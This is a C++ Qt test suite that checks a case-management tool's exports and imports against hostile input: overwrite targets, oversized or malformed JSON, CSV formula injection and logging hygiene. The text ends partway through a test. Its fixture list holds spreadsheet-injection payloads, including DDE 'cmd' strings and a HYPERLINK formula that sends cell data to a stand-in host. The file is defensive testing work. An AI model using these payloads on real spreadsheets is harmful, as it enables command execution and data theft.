// Issue 13 as a hostile or clumsy user tries it, on generated inputs: no export writes over the case
// file or a device, huge and malformed case records are refused before they cost memory, CSV
// cannot carry a formula, every export is logged and owner-only, messages blame the right file,
// doubtful dates are imported with a warning and left out of medians, user text stays in its box.
#include "../cli/CliRun.h"
#include "../core/StoreFiles.h"

#include "cases/CaseRecordsReader.h"
#include "MainWindow.h"
#include "MessageBox.h"
#include "SaveFileDialog.h"
#include "models/AllegationTableModel.h"
#include "store/CaseStore.h"
#include "text/AtomicFile.h"
#include "text/CsvTable.h"
#include "text/ExportTarget.h"
#include "text/StrictJson.h"

#include <poppler-qt6.h>

#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QPainter>
#include <QPdfWriter>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>
#include <functional>

#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace rebuttal;
using namespace rebuttal::test;

namespace {

mode_t modeOf(const QString &path)
{
    struct stat info = {};
    return ::lstat(QFile::encodeName(path).constData(), &info) == 0 ? info.st_mode : 0;
}

QByteArray recordsJson(const QJsonArray &clients)
{
    return QJsonDocument(QJsonObject{{QStringLiteral("format"), QStringLiteral("rebuttal.cases")},
                                     {QStringLiteral("version"), 1},
                                     {QStringLiteral("clients"), clients}})
        .toJson();
}

QJsonObject client(const QString &ref, const QString &name, const QJsonArray &allegations = {}, const QJsonArray &events = {})
{
    QJsonObject c{{QStringLiteral("ref"), ref}, {QStringLiteral("name"), name}};
    if (!allegations.isEmpty())
        c.insert(QStringLiteral("allegations"), allegations);
    if (!events.isEmpty())
        c.insert(QStringLiteral("events"), events);
    return c;
}

QJsonObject allegation(const QString &ref, const QString &asserted, const QString &disclosed, const QString &detail = {})
{
    QJsonObject a{{QStringLiteral("ref"), ref}, {QStringLiteral("source"), QStringLiteral("CHIS")},
                  {QStringLiteral("kind"), QStringLiteral("gang_affiliation")}, {QStringLiteral("asserted_on"), asserted},
                  {QStringLiteral("disclosed_on"), disclosed}};
    if (!detail.isEmpty())
        a.insert(QStringLiteral("detail"), detail);
    return a;
}

QJsonObject eventRecord(const QString &ref, const QString &type, const QString &date, const QString &detail = {})
{
    QJsonObject e{{QStringLiteral("ref"), ref}, {QStringLiteral("type"), type}, {QStringLiteral("date"), date}};
    if (!detail.isEmpty())
        e.insert(QStringLiteral("detail"), detail);
    return e;
}

// Values a spreadsheet would run as formulas, and values next to them that must come back as they were.
const QStringList &hostileValues()
{
    static const QStringList values{
        QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"), QStringLiteral("+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1"), QStringLiteral("'=already quoted"), QStringLiteral("''@twice"),
        QStringLiteral("'plain apostrophe"), QStringLiteral("-5"), QStringLiteral("+3.5"), QStringLiteral("ordinary text")};
    return values;
}

} // namespace

class TestHostileOutputs : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString path(const QString &name) const { return m_dir.filePath(name); }

    // A case file with two clients and their records, closed (no -wal left).
    QString storeWithRecords(const QString &name)
    {
        const QString store = path(name);
        if (cli({QStringLiteral("--store"), store, QStringLiteral("init")}).exitCode != 0)
            return {};
        const QString records = path(name + QStringLiteral(".json"));
        writeBytes(records, recordsJson({client(QStringLiteral("C-001"), QStringLiteral("Ana"),
                                                {allegation(QStringLiteral("AL1"), QStringLiteral("2020-01-10"), QStringLiteral("2020-02-09"))},
                                                {eventRecord(QStringLiteral("E1"), QStringLiteral("detention_start"), QStringLiteral("2020-01-10")),
                                                 eventRecord(QStringLiteral("E2"), QStringLiteral("release"), QStringLiteral("2020-03-01"))}),
                                         client(QStringLiteral("C-002"), QStringLiteral("Beto"))}));
        if (cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), records}).exitCode != 0)
            return {};
        return store;
    }

    QStringList exportCommand(const QString &kind, const QString &store, const QString &out) const
    {
        const QStringList base{QStringLiteral("--store"), store};
        if (kind == QLatin1String("cases"))
            return base + QStringList{QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), out};
        if (kind == QLatin1String("summary"))
            return base + QStringList{QStringLiteral("export"), QStringLiteral("summary"), QStringLiteral("C-001"), QStringLiteral("--out"), out};
        if (kind == QLatin1String("dataset"))
            return base + QStringList{QStringLiteral("dataset"), QStringLiteral("--out"), out};
        return base + QStringList{QStringLiteral("chart"), QStringLiteral("outcomes"), QStringLiteral("--out"), out};
    }

private Q_SLOTS:
    // --- 1. No export writes over the case file, its companions, or anything not a regular file.
    void exportsRefuseTheCaseFileAndDevices_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("target");
        for (const char *kind : {"cases", "summary", "dataset", "chart"}) {
            for (const char *target : {"store", "wal", "shm", "symlink", "hardlink", "symlink-to-wal", "devnull", "fifo",
                                       "folder", "dangling"}) {
                QTest::newRow(qPrintable(QStringLiteral("%1 over %2").arg(QLatin1String(kind), QLatin1String(target))))
                    << QString::fromLatin1(kind) << QString::fromLatin1(target);
            }
        }
    }

    void exportsRefuseTheCaseFileAndDevices()
    {
        QFETCH(QString, kind);
        QFETCH(QString, target);
        const QString store = storeWithRecords(QStringLiteral("victim-%1-%2.rebuttal").arg(kind, target));
        QVERIFY(!store.isEmpty());
        // The extension decides the format of some exports: give each its own.
        const QString ext = kind == QLatin1String("summary") ? QStringLiteral(".pdf")
                          : kind == QLatin1String("chart")   ? QStringLiteral(".png")
                          : kind == QLatin1String("dataset") ? QStringLiteral(".csv")
                                                             : QStringLiteral(".json");
        QString out;
        if (target == QLatin1String("store")) {
            out = store;
        } else if (target == QLatin1String("wal") || target == QLatin1String("shm")) {
            out = store + QLatin1Char('-') + target;
        } else if (target == QLatin1String("symlink")) {
            out = path(QStringLiteral("link-%1%2").arg(kind, ext));
            QVERIFY(QFile::link(store, out));
        } else if (target == QLatin1String("hardlink")) {
            out = path(QStringLiteral("hard-%1%2").arg(kind, ext));
            QCOMPARE(::link(QFile::encodeName(store).constData(), QFile::encodeName(out).constData()), 0);
        } else if (target == QLatin1String("symlink-to-wal")) {
            out = path(QStringLiteral("walink-%1%2").arg(kind, ext));
            QVERIFY(QFile::link(store + QStringLiteral("-wal"), out));
        } else if (target == QLatin1String("devnull")) {
            out = QStringLiteral("/dev/null");
        } else if (target == QLatin1String("fifo")) {
            out = path(QStringLiteral("fifo-%1%2").arg(kind, ext));
            QCOMPARE(::mkfifo(QFile::encodeName(out).constData(), 0600), 0);
        } else if (target == QLatin1String("folder")) {
            out = path(QStringLiteral("folder-%1%2").arg(kind, ext));
            QVERIFY(QDir().mkdir(out));
        } else {
            out = path(QStringLiteral("dangling-%1%2").arg(kind, ext));
            QVERIFY(QFile::link(path(QStringLiteral("nowhere/none")), out));
        }
        const QByteArray before = fileBytes(store);
        const mode_t outMode = modeOf(out);
        const CliRun r = cli(exportCommand(kind, store, out));
        QVERIFY2(r.exitCode == 3, qPrintable(QStringLiteral("exit %1: %2").arg(r.exitCode).arg(r.err)));
        QCOMPARE(r.err.count(QLatin1Char('\n')), 1);
        QCOMPARE(fileBytes(store), before);
        QCOMPARE(modeOf(out), outMode); // the device, pipe, folder or link is still what it was
        QVERIFY(!QFile::exists(store + QStringLiteral("-wal")) || target == QLatin1String("wal"));
        // And the store still opens.
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("documents"), QStringLiteral("--json")}).exitCode, 0);
    }

    // The same guard inside the process, whoever calls AtomicFile: the GUI's save dialogs, Save a Copy.
    void atomicFileRefusesAnOpenCaseFile()
    {
        const QString store = storeWithRecords(QStringLiteral("open.rebuttal"));
        StoreError error;
        std::unique_ptr<CaseStore> open = CaseStore::open(store, &error);
        QVERIFY2(open, qPrintable(error.message));
        const QString link = path(QStringLiteral("open-link.pdf"));
        QVERIFY(QFile::link(store, link));
        for (const QString &target : QStringList{store, store + QStringLiteral("-wal"), store + QStringLiteral("-shm"), link}) {
            QString problem;
            QVERIFY2(!AtomicFile::write(target, "%PDF-1.4 not a case file", &problem), qPrintable(target));
            QVERIFY2(problem.contains(QStringLiteral("open.rebuttal")), qPrintable(problem));
        }
        QVERIFY(open->saveCopy(store + QStringLiteral("-wal")).isError());
        QVERIFY(open->saveCopy(link).isError());
        open.reset();
        // Closed, the same file is no longer guarded in this process, but the CLI's check is.
        QVERIFY(!ExportTarget::refusal(store, {store}).isEmpty());
        QVERIFY(ExportTarget::refusal(path(QStringLiteral("elsewhere.pdf")), {store}).isEmpty());
    }

    // The app's save dialogs: the case file open in the window, or its -wal, is refused with a message naming why.
    void saveDialogsRefuseTheOpenCaseFile()
    {
        const QString store = storeWithRecords(QStringLiteral("window.rebuttal"));
        const QByteArray before = fileBytes(store);
        MessageBox::setAutomatic(true);
        {
            MainWindow window;
            window.show();
            QVERIFY(window.openCaseFile(store));
            // A chart gets ".png" added to a name without it, so it is tried through a link that has it.
            const QString link = path(QStringLiteral("window-link.png"));
            QVERIFY(QFile::link(store, link));
            for (const QString &target : QStringList{store, store + QStringLiteral("-wal"), link}) {
                for (QAction *action : {window.exportDatasetAction(), window.exportChartAction(), window.exportDeidentifiedAction()}) {
                    if (action == window.exportChartAction() && target != link)
                        continue;
                    MessageBox::clearRecordedMessages();
                    SaveFileDialog::setAutomatic(true, target);
                    action->trigger();
                    const QStringList messages = MessageBox::recordedMessages();
                    QVERIFY2(!messages.isEmpty() && messages.last().contains(QStringLiteral("is the case file window.rebuttal")),
                             qPrintable(action->text() + QStringLiteral(": ") + messages.join(QLatin1Char('|'))));
                }
            }
            window.closeCaseFile();
        }
        SaveFileDialog::setAutomatic(false);
        MessageBox::setAutomatic(false);
        QCOMPARE(fileBytes(store), before);
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("documents"), QStringLiteral("--json")}).exitCode, 0);
    }

    // --- 2. A huge file is refused by its size, before a byte is read; a pipe is never read.
    void hugeCaseRecordsAreRefusedBeforeReading()
    {
        const QString store = storeWithRecords(QStringLiteral("huge.rebuttal"));
        const QString huge = path(QStringLiteral("cases.json"));
        {
            QFile file(huge);
            QVERIFY(file.open(QIODevice::WriteOnly));
            QVERIFY(file.resize(20LL * 1024 * 1024 * 1024)); // sparse: 20 GB that take no disk
        }
        const QByteArray before = fileBytes(store);
        CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), huge});
        QCOMPARE(r.exitCode, 3);
        QVERIFY2(r.err.contains(QStringLiteral("cases.json")) && r.err.contains(QStringLiteral("64 MB")), qPrintable(r.err));
        QCOMPARE(r.err.count(QLatin1Char('\n')), 1);
        QFile::remove(huge);
        // One byte over the cap is refused too; the cap itself is documented in the README.
        {
            QFile file(huge);
            QVERIFY(file.open(QIODevice::WriteOnly));
            QVERIFY(file.resize(CaseRecordsReader::MaxFileBytes + 1));
        }
        CaseRecordsReader reader;
        QVERIFY(!reader.readFile(huge));
        QVERIFY(reader.errorString().contains(QStringLiteral("64 MB")));
        QFile::remove(huge);

        const QString fifo = path(QStringLiteral("pipe.json"));
        QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
        r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), fifo});
        QCOMPARE(r.exitCode, 3);
        QVERIFY2(r.err.contains(QStringLiteral("not a regular file")), qPrintable(r.err));
        QCOMPARE(fileBytes(store), before);
    }

    // --- 7. One defusing writer: formulas never reach a spreadsheet, and import(export(x)) == x.
    void defusingRoundTrips_data()
    {
        QTest::addColumn<QString>("value");
        for (const QString &value : hostileValues())
            QTest::newRow(qPrintable(QString(value).replace(QLatin1Char('\t'), QStringLiteral("\\t")).replace(QLatin1Char('\r'), QStringLiteral("\\r")))) << value;
    }

    void defusingRoundTrips()
    {
        QFETCH(QString, value);
        const QString field = CsvTable::spreadsheetField(value);
        // Unquoted, the field's first character is what a spreadsheet sees.
        QString cell = field;
        if (cell.startsWith(QLatin1Char('"')))
            cell = cell.mid(1, cell.size() - 2).replace(QStringLiteral("\"\""), QStringLiteral("\""));
        bool isNumber = false;
        value.toDouble(&isNumber);
        QVERIFY2(isNumber || !QStringLiteral("=+-@\t\r").contains(cell.front()), qPrintable(field));
        QCOMPARE(CsvTable::undefused(cell), value);
    }

    void caseRecordsCsvCarriesNoFormulaAndReadsBack()
    {
        QJsonArray clients;
        int n = 0;
        for (const QString &value : hostileValues()) {
            const QString ref = QStringLiteral("C-%1").arg(++n);
            // Leading and trailing blanks are trimmed by the CSV reader by design: kept out of names.
            const QString name = value.trimmed().isEmpty() || value.front().isSpace() ? QStringLiteral("N") + value : value;
            clients.append(client(ref, name, {allegation(QStringLiteral("AL1"), QStringLiteral("2020-01-01"), QStringLiteral("2020-02-01"), value.trimmed())},
                                  {eventRecord(QStringLiteral("E1"), QStringLiteral("encounter"), QStringLiteral("2020-01-01"), value.trimmed())}));
        }
        const QString store = path(QStringLiteral("formulas.rebuttal"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("init")}).exitCode, 0);
        writeBytes(path(QStringLiteral("formulas.json")), recordsJson(clients));
        CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), path(QStringLiteral("formulas.json"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QString csv = path(QStringLiteral("formulas.csv"));
        r = cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), csv});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QString problem;
        const std::optional<QList<CsvRow>> rows = CsvTable::parse(fileBytes(csv), &problem);
        QVERIFY2(rows, qPrintable(problem));
        for (const CsvRow &row : *rows) {
            for (const QString &f : row.fields) {
                bool isNumber = false;
                f.toDouble(&isNumber);
                QVERIFY2(f.isEmpty() || isNumber || !QStringLiteral("=+-@\t\r").contains(f.front()),
                         qPrintable(QStringLiteral("line %1: %2").arg(row.line).arg(f)));
            }
        }
        // Read back into a fresh store: the records are the same as the JSON that went in.
        const QString again = path(QStringLiteral("formulas-again.rebuttal"));
        QCOMPARE(cli({QStringLiteral("--store"), again, QStringLiteral("init")}).exitCode, 0);
        r = cli({QStringLiteral("--store"), again, QStringLiteral("import"), QStringLiteral("cases"), csv});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QString first = path(QStringLiteral("first.json")), second = path(QStringLiteral("second.json"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), first}).exitCode, 0);
        QCOMPARE(cli({QStringLiteral("--store"), again, QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), second}).exitCode, 0);
        QCOMPARE(fileBytes(second), fileBytes(first));
        QVERIFY(fileBytes(first).contains("=HYPERLINK"));
    }

    // --- 8 and 9. Every export is logged, by content not name; every export is readable by its owner only.
    void everyExportIsLoggedAndOwnerOnly()
    {
        const QString store = storeWithRecords(QStringLiteral("logged.rebuttal"));
        // An earlier file of the same name, world-readable: replaced by an owner-only one.
        const QString casesOut = path(QStringLiteral("Ana-Lopez-cases.csv"));
        writeBytes(casesOut, "old");
        QVERIFY(QFile::setPermissions(casesOut, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
        const QStringList outs{casesOut, path(QStringLiteral("Ana-Lopez.pdf")), path(QStringLiteral("Ana-dataset.csv")),
                               path(QStringLiteral("Ana-chart.svg"))};
        const QStringList kinds{QStringLiteral("cases"), QStringLiteral("summary"), QStringLiteral("dataset"), QStringLiteral("chart")};
        for (int i = 0; i < kinds.size(); ++i) {
            const CliRun r = cli(exportCommand(kinds.at(i), store, outs.at(i)));
            QVERIFY2(r.exitCode == 0, qPrintable(kinds.at(i) + QStringLiteral(": ") + r.err));
            QCOMPARE(modeOf(outs.at(i)) & 0777, mode_t(0600));
        }
        CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("stats"), QStringLiteral("--csv"), QStringLiteral("--deidentify")});
        QCOMPARE(r.exitCode, 0);
        r = cli({QStringLiteral("--store"), store, QStringLiteral("log"), QStringLiteral("--json")});
        QCOMPARE(r.exitCode, 0);
        QStringList actions;
        for (const QJsonValue &entry : r.json().value(QStringLiteral("activity")).toArray()) {
            actions << entry[QStringLiteral("action")].toString();
            const QString detail = entry[QStringLiteral("detail")].toString();
            QVERIFY2(!detail.contains(QStringLiteral("Ana")) && !detail.contains(QStringLiteral("Beto")), qPrintable(detail));
        }
        QCOMPARE(actions.count(QStringLiteral("export.cases")), 1);
        QCOMPARE(actions.count(QStringLiteral("export.summary")), 1);
        QCOMPARE(actions.count(QStringLiteral("export.research")), 3); // dataset, chart, stats --csv
        // The case records' export is logged with the SHA-256 of what was written.
        const QString sha = QString::fromLatin1(QCryptographicHash::hash(fileBytes(casesOut), QCryptographicHash::Sha256).toHex());
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(QString::fromUtf8(r.out).contains(sha), qPrintable(sha));
    }

    void importedFilesAreLoggedBySha256()
    {
        const QString store = path(QStringLiteral("named.rebuttal"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("init")}).exitCode, 0);
        const QString named = path(QStringLiteral("Maria Lopez Garcia A012345678.json"));
        const QByteArray bytes = recordsJson({client(QStringLiteral("C-9"), QStringLiteral("Maria Lopez Garcia"))});
        writeBytes(named, bytes);
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), named}).exitCode, 0);
        const CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("log"), QStringLiteral("--json")});
        const QString log = QString::fromUtf8(r.out);
        QVERIFY(!log.contains(QStringLiteral("Maria")) && !log.contains(QStringLiteral("A012345678")));
        QVERIFY(log.contains(QString::fromLatin1(QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex())));
    }

    // --- 11. A disk that fills as an export is written: one line naming the target and the cause, no
    // partial file, the case file as it was. The file-size limit (RLIMIT_FSIZE, with SIGXFSZ ignored)
    // makes the child's writes past 256 KiB fail with EFBIG as a full disk fails them with ENOSPC.
    void exportOnAFullDiskLeavesNothing()
    {
        const QString folder = path(QStringLiteral("full-disk"));
        QVERIFY(QDir().mkdir(folder));
        const QString store = folder + QStringLiteral("/big.rebuttal");
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("init")}).exitCode, 0);
        QJsonArray clients;
        for (int i = 0; i < 3000; ++i)
            clients << client(QStringLiteral("C-%1").arg(i), QStringLiteral("Client number %1").arg(i));
        const QString records = path(QStringLiteral("full-disk-records.json"));
        writeBytes(records, recordsJson(clients));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), records}).exitCode, 0);
        const QString before = path(QStringLiteral("full-disk-before.json"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), before}).exitCode, 0);
        QVERIFY(QFileInfo(before).size() > 256 * 1024);
        const CliRun logBefore = cli({QStringLiteral("--store"), store, QStringLiteral("log"), QStringLiteral("--json")});
        const QStringList filesBefore = QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System);

        const QString target = folder + QStringLiteral("/export.json");
        const CliRun full = cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), target},
                             QProcessEnvironment::systemEnvironment(), [] {
                                 ::signal(SIGXFSZ, SIG_IGN);
                                 const struct rlimit limit = {256 * 1024, 256 * 1024};
                                 ::setrlimit(RLIMIT_FSIZE, &limit);
                             });
        QCOMPARE(full.exitCode, 3);
        QCOMPARE(full.err.count(QLatin1Char('\n')), 1);
        QVERIFY2(full.err.contains(target) && full.err.contains(QStringLiteral("too large")), qPrintable(full.err));
        QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System), filesBefore);

        const QString after = path(QStringLiteral("full-disk-after.json"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("cases"), QStringLiteral("--out"), after}).exitCode, 0);
        QCOMPARE(fileBytes(after), fileBytes(before));
        // The failed export is not in the log: only the two that were written are.
        const CliRun logAfter = cli({QStringLiteral("--store"), store, QStringLiteral("log"), QStringLiteral("--json")});
        QCOMPARE(logAfter.json().value(QStringLiteral("activity")).toArray().size(),
                 logBefore.json().value(QStringLiteral("activity")).toArray().size() + 1);
    }

    // --- 4. The case file's own name (often the client's) stays out of the log and the diagnostics.
    void caseFileNamesAreNotLogged()
    {
        const QString store = path(QStringLiteral("Maria Lopez Garcia A012345678.rebuttal"));
        QProcessEnvironment verbose = QProcessEnvironment::systemEnvironment();
        verbose.insert(QStringLiteral("QT_LOGGING_RULES"), QStringLiteral("rebuttal.*=true"));
        const CliRun init = cli({QStringLiteral("--store"), store, QStringLiteral("init")}, verbose);
        QCOMPARE(init.exitCode, 0);
        // The CLI tells its user which file it created; the diagnostics (rebuttal.*) never name it.
        const auto diagnostics = [](const QString &err) {
            QStringList lines = err.split(QLatin1Char('\n'));
            lines.removeIf([](const QString &line) { return !line.startsWith(QLatin1String("rebuttal.")); });
            return lines.join(QLatin1Char('\n'));
        };
        QVERIFY(!diagnostics(init.err).isEmpty());
        QVERIFY2(!diagnostics(init.err).contains(QStringLiteral("Maria")), qPrintable(init.err));
        const QString copy = path(QStringLiteral("Maria Lopez Garcia copy.rebuttal"));
        {
            StoreError error;
            const std::unique_ptr<CaseStore> open = CaseStore::open(store, &error);
            QVERIFY2(open, qPrintable(error.message));
            QVERIFY(!open->saveCopy(copy).isError());
        }
        const CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("log"), QStringLiteral("--json")}, verbose);
        QCOMPARE(r.exitCode, 0);
        QVERIFY2(!diagnostics(r.err).contains(QStringLiteral("Maria")), qPrintable(r.err));
        QStringList details;
        for (const QJsonValue &entry : r.json().value(QStringLiteral("activity")).toArray())
            details << entry[QStringLiteral("detail")].toString();
        const QString sha = QString::fromLatin1(QCryptographicHash::hash(fileBytes(copy), QCryptographicHash::Sha256).toHex());
        QCOMPARE(details, (QStringList{QStringLiteral("Created the case file"),
                                       QStringLiteral("Saved a copy of the case file, SHA-256 ") + sha}));
    }

    // --- 10. Strict JSON: what Qt's parser accepts silently is refused, naming the line and the key.
    void strictJson_data()
    {
        QTest::addColumn<QByteArray>("json");
        QTest::addColumn<QString>("mentions");
        const QByteArray head = "{\n\"format\": \"rebuttal.cases\",\n\"version\": 1,\n";
        QTest::newRow("second clients replaces the first")
            << head + "\"clients\": [{\"ref\": \"C-1\", \"name\": \"A\"}],\n\"clients\": []\n}" << "line 5, key \"clients\"";
        QTest::newRow("duplicate name in a client")
            << head + "\"clients\": [{\"ref\": \"C-1\",\n \"name\": \"A\",\n \"name\": \"B\"}]\n}" << "line 6, key \"name\"";
        QTest::newRow("duplicate by escape") << head + "\"clients\": [{\"ref\": \"C-1\", \"name\": \"A\", \"n\\u0061me\": \"B\"}]\n}"
                                             << "key \"name\"";
        QByteArray nul = head + "\"clients\": [{\"ref\": \"C-1\", \"name\": \"A";
        nul.append('\0');
        nul.append("B\"}]\n}");
        QTest::newRow("raw NUL") << nul << "line 4, key \"name\"";
        QTest::newRow("lone high surrogate") << head + "\"clients\": [{\"ref\": \"C-1\", \"name\": \"\\ud800x\"}]\n}"
                                             << "line 4, key \"name\"";
        QTest::newRow("lone low surrogate") << head + "\"clients\": [{\"ref\": \"C-1\", \"name\": \"\\udc00\"}]\n}"
                                            << "line 4, key \"name\"";
        QTest::newRow("deep nesting") << head + "\"clients\": " + QByteArray(200, '[') + QByteArray(200, ']') + "\n}" << "nested";
    }

    void strictJson()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, mentions);
        const QString store = storeWithRecords(QStringLiteral("strict-%1.rebuttal").arg(QLatin1String(QTest::currentDataTag())).replace(QLatin1Char(' '), QLatin1Char('-')));
        const QString file = path(QStringLiteral("strict.json"));
        writeBytes(file, json);
        const QByteArray before = fileBytes(store);
        const CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), file});
        QCOMPARE(r.exitCode, 3);
        QVERIFY2(r.err.contains(QStringLiteral("strict.json")) && r.err.contains(mentions), qPrintable(r.err));
        QCOMPARE(r.err.count(QLatin1Char('\n')), 1);
        QCOMPARE(fileBytes(store), before);
    }

    void strictJsonAcceptsWhatIsValid()
    {
        QCOMPARE(StrictJson::problemIn("{\"a\": {\"x\": 1}, \"b\": {\"x\": 2}, \"s\": \"\\ud83d\\ude00 \\\"x\\\" \\\\\"}"), QString());
        QCOMPARE(StrictJson::problemIn("[{\"a\": 1}, {\"a\": 1}]"), QString()); // same key in different objects
        CaseRecordsReader reader;
        QVERIFY(reader.read(recordsJson({client(QStringLiteral("C-1"), QStringLiteral("Ana \U0001F600"))}), QStringLiteral("ok.json")));
    }

    // --- 11. Messages name the right file and the real cause.
    void messagesBlameTheRightThing()
    {
        const QString store = storeWithRecords(QStringLiteral("blame.rebuttal"));
        CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), m_dir.path()});
        QCOMPARE(r.exitCode, 3);
        QVERIFY2(r.err.contains(QStringLiteral("is a folder")), qPrintable(r.err));

        // A case file SQLite cannot write to the end: the store is named, not the records.
        const QString records = path(QStringLiteral("blame-records.json"));
        writeBytes(records, recordsJson({client(QStringLiteral("C-7"), QStringLiteral("Gil"))}));
        {
            LockHolder lock(store);
            QVERIFY(lock.isLocked());
            r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), records});
        }
        QCOMPARE(r.exitCode, 4);
        QVERIFY2(r.err.contains(QStringLiteral("blame.rebuttal")) && r.err.contains(QStringLiteral("locked")), qPrintable(r.err));
        QVERIFY2(!r.err.contains(QStringLiteral("blame-records.json")), qPrintable(r.err));

        // A table gone: the store is named and called damaged, with the table, not the command's input.
        QVERIFY(execRaw(store, "DROP TABLE event_allegations"));
        r = cli({QStringLiteral("--store"), store, QStringLiteral("stats"), QStringLiteral("--json")});
        QCOMPARE(r.exitCode, 4);
        QVERIFY2(r.err.contains(QStringLiteral("blame.rebuttal")) && r.err.contains(QStringLiteral("event_allegations")), qPrintable(r.err));

        // A case file that cannot take a production or an index (as when the disk fills up while
        // pages are written): the case file is named with the cause, the input only as what was
        // not stored, and nothing is left half-written.
        const QString full = storeWithRecords(QStringLiteral("full.rebuttal"));
        QVERIFY(execRaw(full, "CREATE TRIGGER full_pages BEFORE INSERT ON pages BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END"));
        QVERIFY(execRaw(full, "CREATE TRIGGER full_index BEFORE INSERT ON vaughn_entries BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END"));
        const QString pdf = path(QStringLiteral("release.pdf"));
        {
            QPdfWriter writer(pdf);
            QPainter painter(&writer);
            painter.drawText(QRectF(0, 0, 4000, 400), QStringLiteral("Memorandum"));
        }
        const QString index = path(QStringLiteral("index.csv"));
        writeBytes(index, "Entry,Document,Pages,Exemptions,Description\n1,DOC-1,1,(b)(6),Memo\n");
        const QByteArray before = fileBytes(full);
        for (const QStringList &import : {QStringList{QStringLiteral("production"), pdf}, QStringList{QStringLiteral("vaughn"), index}}) {
            r = cli(QStringList{QStringLiteral("--store"), full, QStringLiteral("import")} + import);
            QCOMPARE(r.exitCode, 4);
            QVERIFY2(r.err.contains(QStringLiteral("full.rebuttal: ")) && r.err.contains(QStringLiteral("could not be stored"))
                         && r.err.contains(QStringLiteral("disk is full")),
                     qPrintable(r.err));
            QCOMPARE(fileBytes(full), before);
        }

        // A dangling link: the same words from a command that opens and one that creates.
        const QString dangling = path(QStringLiteral("dangling.rebuttal"));
        QVERIFY(QFile::link(path(QStringLiteral("gone/away.rebuttal")), dangling));
        const CliRun opened = cli({QStringLiteral("--store"), dangling, QStringLiteral("documents"), QStringLiteral("--json")});
        const CliRun created = cli({QStringLiteral("--store"), dangling, QStringLiteral("init")});
        QCOMPARE(opened.exitCode, 4);
        QCOMPARE(created.exitCode, 4);
        QVERIFY2(opened.err.contains(QStringLiteral("does not exist")) && opened.err.contains(QStringLiteral("link")), qPrintable(opened.err));
        QCOMPARE(created.err, opened.err);
    }

    // Commands that only read open the case file read-only: they write nothing and create no file
    // (no -wal, no -shm) beside it, in a folder they could write and in one they cannot.
    void readersOpenReadOnly_data()
    {
        QTest::addColumn<bool>("folderWritable");
        QTest::newRow("writable folder") << true;
        QTest::newRow("read-only folder") << false;
    }
    void readersOpenReadOnly()
    {
        QFETCH(bool, folderWritable);
        const QString folder = path(folderWritable ? QStringLiteral("rw-folder") : QStringLiteral("ro-folder"));
        QVERIFY(QDir().mkdir(folder));
        const QString store = folder + QStringLiteral("/ro.rebuttal");
        QVERIFY(QFile::copy(storeWithRecords(QStringLiteral("ro-source-%1.rebuttal").arg(folderWritable)), store));
        const QByteArray before = fileBytes(store);
        const QStringList filesBefore = QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System);
        QCOMPARE(filesBefore, QStringList{QStringLiteral("ro.rebuttal")});
        if (!folderWritable) {
            QVERIFY(QFile::setPermissions(store, QFile::ReadOwner));
            QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner));
        }
        for (const QStringList &command : {QStringList{QStringLiteral("stats"), QStringLiteral("--json")},
                                           QStringList{QStringLiteral("timeline"), QStringLiteral("C-001"), QStringLiteral("--json")},
